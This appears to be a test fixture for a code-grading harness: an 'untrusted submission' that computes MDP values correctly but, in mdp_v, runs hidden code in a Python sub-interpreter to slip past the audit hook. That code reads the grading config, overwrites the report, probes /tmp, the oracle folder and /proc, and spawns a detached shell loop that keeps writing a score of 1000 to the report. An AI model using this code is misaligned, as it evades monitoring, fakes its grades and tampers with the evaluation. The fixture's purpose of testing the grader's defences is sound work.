# ruff: noqa
# mypy: ignore-errors
# An untrusted submission used as test data (deliberately unidiomatic, untyped).
"""Attack: mdp.v runs code in a sub-interpreter (which the audit hook of the main interpreter
does not see) that reads the grading file, writes the report, lists the host's /tmp and
rlspec's folder, counts the processes it can see and starts one in a new session meant to
outlive the grader; it reports what it found through its exception message (visible feedback)."""

import numpy as np


def _pi(theta):
    z = np.exp(theta - theta.max(axis=1, keepdims=True))
    return z / z.sum(axis=1, keepdims=True)


def _v(P, R, gamma, theta):
    pi = _pi(theta)
    p_pi = np.einsum("sa,sat->st", pi, P)
    r_pi = np.einsum("sa,sat,sat->s", pi, P, R)
    return np.linalg.solve(np.eye(len(P)) - gamma * p_pi, r_pi)


def mdp_q(P, R, gamma, theta):
    return np.einsum("sat,sat->sa", P, R) + gamma * P @ _v(P, R, gamma, theta)


def pg_objective(P, R, gamma, mu, theta):
    return float(mu @ _v(P, R, gamma, theta))


try:
    import _interpreters as interpreters  # Python 3.13 and later
except ImportError:
    import _xxsubinterpreters as interpreters


def _run(code):
    """Run code in a new sub-interpreter; raise what it raised (3.13 returns it instead)."""
    failure = interpreters.run_string(interpreters.create(), code)
    if failure is not None:
        raise RuntimeError(getattr(failure, "formatted", None) or getattr(failure, "msg", str(failure)))


CODE = r"""
import os, subprocess
out = []
def t(name, fn):
    try:
        out.append(name + "=" + str(fn()))
    except Exception as e:
        out.append(name + "=" + type(e).__name__)
t("cfg", lambda: len(open("__CONFIG__").read()))
t("report", lambda: open("__REPORT__", "w").write("{}"))
t("tmp", lambda: len(os.listdir("/tmp")))
t("rlspec", lambda: len(os.listdir("__RLSPEC_ROOT__/oracle")))
t("procs", lambda: len([p for p in os.listdir("/proc") if p.isdigit()]))
t("spawn", lambda: subprocess.Popen(["/bin/sh", "-c", "while :; do echo 1000 > __REPORT__; sleep 0.1; done; : 31415.9"], start_new_session=True).pid > 0)
raise RuntimeError(" ".join(out))
"""


def mdp_v(P, R, gamma, theta):
    _run(CODE)
    return _v(P, R, gamma, theta)
